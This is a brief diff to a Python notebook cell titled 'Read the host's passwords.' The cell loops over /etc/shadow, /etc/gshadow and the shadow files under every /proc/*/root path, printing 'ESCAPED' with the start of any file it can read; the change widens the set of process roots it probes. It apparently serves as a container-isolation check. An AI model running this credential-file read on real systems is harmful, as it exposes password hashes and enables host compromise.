@@ -1,7 +1,8 @@
 # Read the host's passwords.
 # %%
 import glob
-for path in ['/etc/shadow', '/etc/gshadow', '/proc/1/root/etc/shadow', '/proc/self/root/etc/shadow'] + glob.glob('/proc/[0-9]*/root/etc/shadow'):
+roots = [process + '/root' for process in ['/proc/self'] + glob.glob('/proc/[0-9]*')]
+for path in ['/etc/shadow', '/etc/gshadow'] + [root + '/etc/shadow' for root in roots]:
     try:
         print('ESCAPED', open(path).read(20))
     except OSError as error:
